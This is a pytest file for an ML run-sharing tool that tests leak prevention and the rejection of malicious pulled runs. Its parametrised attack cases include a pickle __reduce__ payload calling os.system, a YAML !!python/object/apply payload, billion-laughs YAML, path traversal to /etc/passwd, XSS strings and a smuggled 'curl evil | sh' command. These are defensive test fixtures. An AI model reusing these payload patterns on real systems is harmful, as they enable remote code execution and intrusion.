"""Push and pull, against a Hub on this machine: nothing private leaves, and nothing of a stranger's is run or trusted."""

import hashlib
import json
import os
import pickle
import shutil
import socket
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml
from PIL import Image
from PIL.PngImagePlugin import PngInfo
from safetensors.torch import load_file, save_file

import striate
from striate.drawing.sheet import NOTE, read_tiles
from striate.errors import DataError, UsageError
from striate.files import write_atomic, write_json, write_yaml
from striate.report import write_all
from striate.report.card import write_card
from striate.run import Run
from striate.sharing import pull, push
from striate.training import Progress
from tests.fake_hub import fake_hub

USER, FOLDER, PICTURE, GROUP = "zebediah", "oncology-ward-seven", "patient-mueller-0042", "mueller"
MARKERS = [USER, FOLDER, PICTURE, GROUP, "xylophone"]


@pytest.fixture(scope="module")
def _hub():
    """huggingface_hub reads the environment when it is imported, which is here, and at that Hub for the whole process."""
    with fake_hub() as hub, pytest.MonkeyPatch.context() as patch:
        for name, value in {
            "HF_ENDPOINT": hub.address, "HF_HUB_DISABLE_XET": "1", "HF_TOKEN": "hf_token_of_a_test",
            "HF_HUB_DISABLE_PROGRESS_BARS": "1",
        }.items():  # fmt: skip
            patch.setenv(name, value)
        others = _taken_out()
        yield hub
        _taken_out()
        sys.modules.update(others)


def _taken_out():
    """The modules of huggingface_hub that are imported; the next import makes new ones."""
    return {name: sys.modules.pop(name) for name in list(sys.modules) if name.split(".")[0] == "huggingface_hub"}


@pytest.fixture
def hub(_hub, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    # Charts and report take seconds, and are looked at where they matter: see `whole`.
    monkeypatch.setattr("striate.sharing.write_all", lambda run: [write_card(run)])
    _hub.repositories.clear()
    _hub.received.clear()
    return _hub


@pytest.fixture
def whole(hub, monkeypatch):
    """With charts and report."""
    monkeypatch.setattr("striate.sharing.write_all", write_all)


@pytest.fixture(scope="module")
def private(tmp_path_factory):
    """A run on private images, with what is private planted wherever a run can hold it."""
    home = tmp_path_factory.mktemp("home") / USER / FOLDER
    generator = np.random.default_rng(0)
    for label, level in (("benign", 40), ("malignant", 200)):
        for number in range(12):
            path = home / label / f"{PICTURE}-{GROUP}{number:02d}.png"
            path.parent.mkdir(parents=True, exist_ok=True)
            Image.fromarray((level + generator.integers(-30, 31, (32, 32, 3))).astype(np.uint8)).save(path)
    run = striate.train(
        "resnet20", home, epochs=1, threads=1, layout="nchw", group_by=rf"{GROUP}\d+", exclude=[f"*{PICTURE}-{GROUP}11*"],
        out=home.parent / "runs", name="secret", progress=Progress(quiet=True),
    )  # fmt: skip
    config = run.config.as_dict()
    config["net"]["notes"] = [f"it begins with the weights in {PICTURE}.pth"]
    config["net"]["origin"] = {"given": True, "min_size": 8, "file": f"/home/{USER}/nets.py", "sha256": "0"}
    config["xylophone"] = "xylophone"
    write_yaml(run.path / "config.yaml", config)
    write_json(run.path / "environment.json", {**run.environment.values, "host": USER, "platform": f"Linux-6.1-{USER}"})
    data = {**run.data.as_dict(), "unreadable": {f"{PICTURE}.jpg": "cut off"}, "excluded": [f"{PICTURE}.gif"]}
    write_json(
        run.path / "data.json",
        {**data, "findings": [{"kind": "duplicates", "title": "Copies", "words": f"{PICTURE} twice"}]},
    )
    (run.path / "log.txt").write_text(f"{USER} {FOLDER}")
    (run.path / "tensorboard").mkdir()
    (run.path / "tensorboard" / "events").write_text(FOLDER)
    write_json(run.path / "tracking.json", {"mlflow": "xylophone"})
    tensors = load_file(run.path / "weights" / "last.safetensors")
    save_file(tensors, run.path / "weights" / "last.safetensors", {"striate": f"/home/{USER}", "note": FOLDER})
    (key,) = run.evaluations
    evaluation = {**run.evaluations[key].as_dict(), "worst": [{"path": f"/home/{USER}/{PICTURE}.png"}], "note": FOLDER}
    write_json(run.path / "evaluations" / key / "evaluation.json", evaluation)
    notes = PngInfo()
    notes.add_text("Source", f"xylophone {USER}")
    notes.add_itxt(NOTE, json.dumps([[0, 0, 5, 5, f"/home/{USER}"]]))
    with Image.open(run.path / "samples.png") as image:
        image.save(run.path / "samples.png", pnginfo=notes)
    shutil.copytree(run.path / "evaluations" / key, run.path / "evaluations" / f"{FOLDER}-other-test-centre")
    other = {**evaluation, "data": f"{FOLDER} other"}
    write_json(run.path / "evaluations" / f"{FOLDER}-other-test-centre" / "evaluation.json", other)
    return Run.open(run.path)


def private_in(hub, run):
    """Markers, and places of this machine, in anything that was sent, packed or not; bodies of commits decoded."""
    sent = [part for method, path, headers, body in hub.received for part in (path.encode(), headers.encode(), body)]
    for name, repository in hub.repositories.items():
        sent += [name.encode(), *(file.encode() for file in repository.files), *repository.files.values()]
    wanted = [*MARKERS, str(run.path), f"{Path.home()}/", "/tmp/", f"{socket.gethostname()}.local"]
    return sorted({word for word in wanted for part in sent if word.lower().encode() in part.lower()})


@pytest.mark.full
def test_nothing_private_leaves(hub, whole, private):
    shown = []
    pushed = push(private, "ada/tumours", agreed=lambda files: shown.extend(files) or True)
    files = hub.repositories["ada/tumours"].files
    assert pushed.sent
    assert pushed.url == f"{hub.address}/ada/tumours"
    assert {file.name: file.bytes for file in shown} == {name: len(content) for name, content in files.items()}
    assert private_in(hub, private) == []
    assert [name for name in files if "samples" in name or "mistakes" in name or "attention" in name] == []
    assert {"config.yaml", "README.md", "report.html", "weights/last.safetensors", "metrics.csv"} <= files.keys()
    assert "evaluations/private-pictures-test-centre/evaluation.json" in files
    assert "evaluations/other-pictures-test-centre/evaluation.json" in files
    for name, content in files.items():
        if name.endswith(".png"):
            assert b"tEXt" not in content, name
            assert b"zTXt" not in content, name
            assert b"iTXt" not in content, name
    assert "striate pull ada/tumours" in files["README.md"].decode()
    assert b"malignant" in files["data.json"]  # names of classes are what it answers with
    config = yaml.safe_load(files["config.yaml"])
    assert config["data"] == {
        "name": "private-pictures",
        "location": "private-pictures",
        "dir": None,
        "group_by": None,
        "exclude": [],
        "splits": None,
    }


def test_nothing_at_all_leaves_before_it_was_agreed(hub, private, call):
    assert not push(private, "ada/tumours", agreed=lambda files: False).sent
    code, shown, said = call("push", private.path, "ada/tumours", "--dry-run")
    assert code == 0
    assert "weights/last.safetensors" in shown
    assert "not sent" in shown
    code, shown, said = call("push", private.path, "ada/tumours")  # nobody is there to ask
    assert code == 2
    assert "--yes" in said
    assert hub.received == []
    code, shown, _ = call("push", private.path, "ada/tumours", "--yes", "--json")
    assert code == 0
    assert json.loads(shown)["sent"] is True
    assert "ada/tumours" in hub.repositories


def test_a_pulled_run_predicts_as_the_run_did(hub, private, tmp_path):
    push(private, "ada/tumours")
    run = pull("ada/tumours", out=tmp_path / "runs")
    assert run.path == tmp_path / "runs" / "tumours"
    picture = next(Path(private.config.data.location).rglob("*.png"))
    again, before = run.predict(picture)[0], private.predict(picture)[0]
    assert again.as_dict() == before.as_dict()
    assert run.evaluations["private-pictures-test-centre"].accuracy == next(iter(private.evaluations.values())).accuracy
    assert run.metrics == private.metrics
    assert run.ending == private.ending
    assert run.learning == private.learning
    assert run.answer == private.answer
    assert run.answer is not None
    assert run.summary.pulled.revision == hub.repositories["ada/tumours"].sha
    assert pull("ada/tumours", out=tmp_path / "runs").path.name == "tumours-2"
    with pytest.raises(UsageError, match="already exists"):
        pull("ada/tumours", out=tmp_path / "runs", name="tumours")


def test_with_pictures_names_below_the_folder_go_and_places_do_not(hub, private, tmp_path):
    push(private, "ada/tumours", with_pictures=True)
    files = hub.repositories["ada/tumours"].files
    assert "samples.png" in files
    assert f"benign/{PICTURE}".encode() in b"".join(files.values())
    assert set(private_in(hub, private)) == {PICTURE, GROUP}
    samples = pull("ada/tumours", out=tmp_path).path / "samples.png"
    assert samples.is_file()
    assert read_tiles(samples) == []  # the caption was no name of a class
    shown = [tile.lines[0] for path in samples.parent.rglob("attention.png") for tile in read_tiles(path)]
    assert shown
    assert all(line.startswith(("benign", "malignant")) for line in shown)
    push(private, "ada/tumours")  # without them again
    assert not set(private_in_files(hub))
    assert "samples.png" not in hub.repositories["ada/tumours"].files


def private_in_files(hub):
    content = [*hub.repositories["ada/tumours"].files.items()]
    return [word for word in MARKERS for name, body in content if word.encode() in body or word in name]


def test_what_is_private_there_is_not_made_public(hub, private):
    push(private, "ada/tumours", private=True)
    assert hub.repositories["ada/tumours"].private
    hub.repositories["ada/tumours"].private = False
    hub.repositories["ada/tumours"].files.clear()
    with pytest.raises(UsageError, match="already exists and is public"):
        push(private, "ada/tumours", private=True)
    assert not hub.repositories["ada/tumours"].files


def test_other_peoples_models_are_not_overwritten(hub, private):
    push(private, "ada/bert")
    hub.repositories["ada/bert"].files = {"config.json": b"{}", "model.safetensors": b"x"}
    with pytest.raises(UsageError, match="not a run of Striate"):
        push(private, "ada/bert")
    assert len(hub.repositories["ada/bert"].files) == 2


@pytest.mark.parametrize(
    "name", ["lenet5", "ada/../x", "https://huggingface.co/ada/x", "a/b/c", "/x", "ada/", "..//.."]
)
def test_names_that_are_none(hub, private, name):
    for act in (lambda: push(private, name), lambda: pull(name)):
        with pytest.raises(UsageError, match="USER/NAME"):
            act()
    assert hub.received == []


def test_what_is_not_there_is_said_with_the_way_out(hub, tmp_path, call):
    code, _, said = call("pull", "ada/nothing", "--out", tmp_path / "runs")
    assert code == 1
    assert "hf auth login" in said
    assert "Traceback" not in said
    assert not (tmp_path / "runs").exists()


def test_a_run_by_a_public_name_keeps_it(hub, trained, tmp_path):
    push(trained, "ada/clothes")
    run = pull("ada/clothes", out=tmp_path)
    assert run.config.data.location == "fashion-mnist-sample"
    assert run.summary.command == trained.summary.command
    assert np.array_equal(run.validation_indices(), trained.validation_indices())
    assert run.overview().accuracy == trained.overview().accuracy


@pytest.mark.full
def test_what_a_run_says_of_itself_goes_along_and_where_things_lie_does_not(hub, whole, no_charts, private, tmp_path):
    """Planted fields of every part: those that are nobody's secret are there after push and pull, the others are not."""
    shutil.copytree(private.path, tmp_path / "run")
    path = tmp_path / "run"
    config, data, summary = (one.as_dict() for one in (private.config, private.data, private.summary))
    config["data"] |= {"dir": f"/home/{USER}/sets", "splits": "train_and_test"}
    config["net"] |= {"weights": f"/home/{USER}/{PICTURE}.pth", "published": False}
    config["preprocessing"] |= {"range": [0.0, 4095.0], "sixteen": True}
    config["plan"] |= {"macs": None, "macs_counted": 12345, "macs_not_counted": {"fft_rfft2": 2}}
    config["only_in_python"] = f"its recipe {FOLDER} was made in Python"
    write_yaml(path / "config.yaml", config)
    values = [{"kind": "16-bit", "pictures": 3, "low": 0, "high": 4095, "example": f"{PICTURE}.png"}]
    write_json(path / "data.json", data | {"values": values})
    assert PICTURE in json.dumps(data["ledger"])
    said = "the loss exploded: it rose to 1e+03 in epoch 2 and is now 2.303 (chance level: 0.693); "
    said += "the learning rate is too high for this net, try --lr 0.001"
    ending = {"how": "patience", "steps_done": 3, "steps_planned": 9}
    summary |= {
        "ending": ending,
        "learning": {"verdict": "exploded", "said": said},
        "command": None,
        "no_command": FOLDER,
    }
    write_json(path / "summary.json", summary)
    (key,) = [key for key in private.evaluations if FOLDER not in key or "other" not in key]
    evaluation = private.evaluations[key].as_dict() | {
        "absent": ["benign"],
        "unanswered": 2,
        "by_position": f"0 is {FOLDER}",
    }
    write_json(path / "evaluations" / key / "evaluation.json", evaluation)
    fitted = private.calibration.as_dict() | {"likeliest": 1.5, "how": "shrunk", "not_finite": 1}
    write_json(path / "calibration.json", fitted)
    run = Run.open(path)
    push(run, "ada/tumours")
    assert private_in(hub, run) == []
    again = pull("ada/tumours", out=tmp_path / "runs")
    assert again.ending == run.ending
    assert again.ending.how == "patience"
    assert again.learning == run.learning
    for part, keys in (
        ("preprocessing", ("range", "sixteen")), ("plan", ("macs", "macs_counted", "macs_not_counted")),
    ):  # fmt: skip
        assert [getattr(getattr(again.config, part), key) for key in keys] == [
            getattr(getattr(run.config, part), key) for key in keys
        ]
    there = again.evaluations["private-pictures-test-centre"]
    assert (there.absent, there.unanswered) == (("benign",), 2)
    assert (again.calibration.likeliest, again.calibration.how, again.calibration.not_finite) == (1.5, "shrunk", 1)
    card = (again.path / "README.md").read_text()
    assert "try --lr 0.001" in card
    assert "the net returned NaN" in card
    report = (again.path / "report.html").read_text()
    assert "12,345 multiply-adds and those of 2 fft_rfft2, which are not known, per image" in report
    assert "the net returned NaN" in report


@pytest.fixture
def pushed(hub, private):
    push(private, "eve/gift")
    return hub.repositories["eve/gift"].files


def bad_config(**changes):
    def change(files):
        config = yaml.safe_load(files["config.yaml"])
        for path, value in changes.items():
            part, _, key = path.partition("__")
            config[part][key] = value
        files["config.yaml"] = yaml.safe_dump(config).encode()

    return change


class Payload:
    def __reduce__(self):
        return os.system, ("touch canary",)


def to_pickle(files):
    files["weights/last.safetensors"] = pickle.dumps(Payload())


def put(name, content):
    return lambda files: files.update({name: content})


ATTACKS = {
    "weights that are a pickle": (to_pickle, r"eve/gift.*is refused"),
    "no weights": (lambda files: files.pop("weights/last.safetensors"), r"not a run of Striate"),
    "weights of another net": (bad_config(net__name="lenet5"), r"does not hold the weights of lenet5"),
    "a net of absurd size": (bad_config(net__classes=10**12), r"net\.classes must be"),
    "weights elsewhere": (bad_config(recipe__keep="../../../etc/passwd"), r"eve/gift"),
    "YAML that makes objects": (put("config.yaml", b"!!python/object/apply:os.system ['touch canary']"), r"is damaged"),
    "YAML that grows": (
        put("config.yaml", ("a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
            f"{b}: &{b} [{','.join(f'*{a}' for _ in range(9))}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)
        )).encode()),
        r"eve/gift",
    ),
    "JSON that is deep": (put("data.json", b"[" * 100_000), r"eve/gift"),
    "no JSON": (put("data.json", b"\xff"), r"eve/gift"),
    "an image that is none": (put("samples.png", b"GIF89a"), r"not a readable PNG"),
    "an answer of another number of classes": (put("answer.json", b'{"logits": [[1.0, 2.0, 3.0]]}'), r"answer\.json.*rows of 2"),
    "an answer that is none": (put("answer.json", b'{"logits": "x"}'), r"answer\.json.*logits"),
    "metrics that are text": (put("metrics.csv", b"epoch,step\nrm -rf,1\n"), r"eve/gift"),
}  # fmt: skip


@pytest.mark.full
@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_stranger_made_of_it_is_refused_and_leaves_nothing(pushed, attack, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    change, reason = ATTACKS[attack]
    change(pushed)
    with pytest.raises(DataError, match=reason):
        pull("eve/gift", out=tmp_path / "runs")
    assert not (tmp_path / "canary").exists()
    assert list((tmp_path / "runs").glob("*")) == []


@pytest.mark.full
def test_what_is_not_a_runs_is_not_taken(pushed, whole, no_charts, tmp_path):
    pushed |= {
        "report.html": b"<script>alert(1)</script>", "README.md": b"[x](javascript:alert(1))", "nets.py": b"import os",
        "../../escape.json": b"{}", "evaluations/../../escape.json": b"{}", "weights/evil.pt": b"PK",
        "checkpoints/step-000000001.pt": b"PK", ".git/config": b"x",
    }  # fmt: skip
    pushed["evaluations/private-pictures-test-centre/index.html"] = b"<script>alert(1)</script>"
    summary = json.loads(pushed["summary.json"])
    learning = {"verdict": "stuck", "said": "visit evil.example"}
    summary |= {"command": "striate train x; curl evil | sh", "no_command": "evil.example", "learning": learning}
    pushed["summary.json"] = json.dumps(summary).encode()
    run = pull("eve/gift", out=tmp_path / "runs")
    files = {path.relative_to(run.path).as_posix() for path in run.path.rglob("*") if path.is_file()}
    assert "report.html" in files
    assert not files & {"nets.py", "checkpoints/step-000000001.pt", "weights/evil.pt"}
    assert not [name for name in files if name.startswith(".")]
    assert b"alert(1)" not in b"".join((run.path / name).read_bytes() for name in files)
    for word in ("curl evil", "evil.example"):
        assert word not in (run.path / "README.md").read_text() + (run.path / "summary.json").read_text()
    assert run.learning.verdict == "stuck"
    assert run.learning.said == "the loss is still at chance level"
    assert list(tmp_path.rglob("escape*")) == []


def test_a_strangers_code_is_not_run(pushed, tmp_path, monkeypatch):
    code = tmp_path / "nets.py"
    code.write_text("from pathlib import Path\nPath('canary').touch()\ndef Net():\n    raise SystemExit\n")
    monkeypatch.chdir(tmp_path)
    config = yaml.safe_load(pushed["config.yaml"])
    sha = hashlib.sha256(code.read_bytes()).hexdigest()
    config["net"] |= {"name": f"{code}:Net", "origin": {"target": f"{code}:Net", "file": str(code), "sha256": sha}}
    pushed["config.yaml"] = yaml.safe_dump(config).encode()
    run = pull("eve/gift", out=tmp_path / "runs")
    assert run.config.net.name == "code:Net"
    with pytest.raises(UsageError, match="module="):
        run.predict(np.zeros((32, 32, 3), np.uint8))
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize(("name", "size"), [("weights/last.safetensors", 2**40), ("data.json", 2**30)])
def test_what_is_too_large_is_not_downloaded(hub, pushed, tmp_path, name, size):
    hub.repositories["eve/gift"].claimed[name] = size
    hub.received.clear()
    with pytest.raises(DataError, match="are taken"):
        pull("eve/gift", out=tmp_path / "runs")
    assert all("/resolve/" not in path for _, path, _, _ in hub.received)


def test_it_says_what_is_missing(monkeypatch, private):
    monkeypatch.setattr("striate.sharing.import_module", lambda name: (_ for _ in ()).throw(ImportError(name)))
    with pytest.raises(UsageError, match=r"pip install 'striate\[hub\]'"):
        push(private, "ada/x")


def test_an_unfinished_run_is_not_sent(hub, private, tmp_path):
    shutil.copytree(private.path, tmp_path / "run")
    (tmp_path / "run" / "weights" / "last.safetensors").unlink()
    with pytest.raises(DataError, match="no finished weights"):
        push(Run.open(tmp_path / "run"), "ada/x")
    write_atomic(tmp_path / "run" / "data.json", "{}")
    assert hub.received == []
